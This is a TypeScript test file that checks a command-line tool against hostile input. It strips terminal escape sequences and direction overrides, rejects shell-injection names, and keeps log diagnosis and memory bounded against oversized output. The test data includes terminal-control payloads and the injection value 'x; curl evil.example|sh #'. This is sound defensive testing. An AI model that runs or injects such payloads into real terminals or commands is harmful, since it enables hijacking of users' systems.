import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { describe } from 'mocha';
import { cappedLine, CappedLog, KeptLines } from '../../src/base/kept-lines.ts';
import { shownLine, shownOnOneLine, shownText } from '../../src/base/shown-text.ts';
import { isPlainName, userCommand } from '../../src/base/user-command.ts';
import { printLine, terminalOn } from '../../src/cli/terminal.ts';
import { diagnose } from '../../src/core/contract/diagnosis/diagnose.ts';
import { attack } from './attack.ts';

/** What gives orders to a terminal, or makes a text look like another. */
const ORDERS = {
  'the clipboard (OSC 52)': '\x1b]52;c;ZXZpbA==\x07',
  'the title (OSC 0)': '\x1b]0;owned\x07',
  'a link (OSC 8)': '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
  'clearing the screen (CSI 2J)': '\x1b[2J',
  'moving the cursor (CSI A)': '\x1b[5A',
  'a color that hides (CSI 8m)': '\x1b[8m',
  'an 8-bit CSI': '\x9b2J',
  'an 8-bit OSC': '\x9d0;owned\x9c',
  'a device control string': '\x1bPq\x1b\\',
  'an application command': '\x1b_G\x1b\\',
  'a lone escape': '\x1b',
  'a carriage return': 'harmless\revil',
  'a backspace': 'evil\b\b\b\b',
  'a bell': '\x07',
  'an override of the direction': '\u202Etxt.exe',
  'an isolate': '\u2066a\u2069',
} as const;

// eslint-disable-next-line no-control-regex -- What must not be there is what this looks for.
const FORBIDDEN = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

function printed(line: string): string {
  let text = '';
  const stream = new Writable({
    write(chunk: Buffer, _, done) {
      text += chunk.toString('utf8');
      done();
    },
  });
  const terminal = terminalOn({
    stdout: stream,
    stderr: stream,
    interactive: false,
    columns: 100,
    ask: undefined,
  });
  printLine(terminal.stdout, line);
  return text;
}

describe('what strangers have shown', () => {
  for (const [what, text] of Object.entries(ORDERS)) {
    attack('M4', `${what}, printed in the terminal`, 'cli/terminal', () => {
      assert.doesNotMatch(printed(`file ${text} name`), FORBIDDEN);
    });
    attack('M4', `${what}, in a text, a line and a cell`, 'base/shown-text', () => {
      for (const shown of [shownText(text), shownLine(text), shownOnOneLine(text)])
        assert.doesNotMatch(shown, FORBIDDEN);
    });
  }

  attack('M4', 'a line that draws another one below it', 'base/shown-text', () => {
    assert.doesNotMatch(shownOnOneLine('a.csv\nUpload nothing? [y/N]'), /\n/);
  });

  for (const name of [
    'x; curl evil.example|sh #',
    '$(touch x)',
    '`touch x`',
    '-rf',
    '--write',
    'a b',
    'a\nb',
    "a'b",
    '',
  ])
    attack('L3', `a name in a remedy’s command: ${JSON.stringify(name)}`, 'base/user-command', () => {
      assert.equal(isPlainName(name), false);
      assert.equal(userCommand`julia-kaggle add-artifact ${name}`, undefined);
    });
});

describe('a log that is made to stop the program', () => {
  const hostile = {
    'words without end': 'w'.repeat(2_000),
    'words before a bracket': `${'w'.repeat(2_000)}("`,
    'quotes and words': `open("${'a/'.repeat(1_000)}`,
    blanks: ' '.repeat(2_000),
    'errors in a row': 'ERROR: '.repeat(300),
    'paths in a row': '/root/.julia/packages/'.repeat(100),
  };
  for (const [what, line] of Object.entries(hostile))
    attack('M5', `${what}, 4 times as much`, 'core/contract/diagnosis', () => {
      const timeOf = (count: number): number => {
        const lines = Array.from({ length: count }, () => line);
        diagnose({ lines: lines.slice(0, 2), failed: true });
        const started = process.cpuUsage();
        diagnose({ lines, failed: true });
        const { user, system } = process.cpuUsage(started);
        return user + system;
      };
      // Of twice the time for twice the lines at most, with room for what else the process does.
      assert.ok(timeOf(400) < 12 * Math.max(timeOf(100), 20_000));
    });

  attack('M5', 'a line of 50 MB without an end', 'base/kept-lines', () => {
    assert.ok(cappedLine('x'.repeat(50e6)).length < 100_000);
  });

  attack('M5', 'output without end, kept in memory', 'base/kept-lines', () => {
    const kept = new KeptLines();
    for (let count = 0; count < 200_000; count += 1) kept.add('x'.repeat(600));
    const characters = kept.lines.reduce((sum, line) => sum + line.length, 0);
    assert.ok(characters < 10e6, `${characters} characters are kept of 120 million`);
  });

  attack('M5', 'output without end, written to the disk', 'base/kept-lines', () => {
    let written = 0;
    const log = new CappedLog<string>({
      write: (line) => void (written += line.length),
      sizeOf: (line) => line.length,
      note: (text) => text,
    });
    for (let count = 0; count < 200_000; count += 1) log.add('x'.repeat(600));
    log.end();
    assert.ok(written < 40e6, `${written} characters are written of 120 million`);
  });
});
